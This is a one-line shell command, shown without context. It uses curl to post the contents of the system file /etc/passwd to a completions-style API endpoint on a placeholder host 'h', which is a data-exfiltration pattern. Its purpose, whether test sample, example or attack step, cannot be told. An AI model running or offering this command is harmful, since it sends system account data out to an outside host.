curl http://h/v1/completions -d @/etc/passwd
